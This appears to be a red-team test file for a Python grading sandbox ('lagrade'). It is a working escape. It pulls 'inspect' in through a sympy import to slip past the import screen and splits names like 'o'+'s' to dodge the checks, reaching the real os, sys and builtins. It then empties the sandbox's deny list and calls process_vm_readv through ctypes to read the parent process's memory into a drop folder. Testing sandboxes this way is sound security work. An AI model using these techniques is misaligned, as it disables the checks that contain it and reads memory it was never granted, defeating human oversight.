"""effect: trace-parent
tries: empty the deny list, then process_vm_readv the parent's heap through ctypes; on success write it to the drop folder.

Cross-process memory read without ptrace attach.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    ct = members(sys_)["modules"]["ct" + "ypes"]
    libc = ct.CDLL("libc.so.6", use_errno=True)
    ppid = os_.getppid()
    start = B["id"](sys_)  # forked: the parent has the same object at the same address
    Iovec = type("Iovec", (ct.Structure,), {"_fields_": [("base", ct.c_void_p), ("len", ct.c_size_t)]})
    buffer = ct.create_string_buffer(4096)
    local = Iovec(ct.cast(buffer, ct.c_void_p), 4096)
    remote = Iovec(ct.c_void_p(start), 4096)
    got = libc.process_vm_readv(ppid, ct.byref(local), 1, ct.byref(remote), 1, 0)
    if got > 0:
        B["op" + "en"]("/tmp/lagrade-redteam/drop/pwned-modpatch_process_vm_readv", "wb").write(buffer.raw[:got])


# module globals of the sandbox are plain attributes: setting them raises no audit event. An empty
# _DENY_PREFIXES lets os.system, os.kill, sockets, fork and ctypes through the hook.
sbx = members(sys_)["modules"]["lagrade.answer.jail.child"]
sbx._DENY_PREFIXES = ()
work()
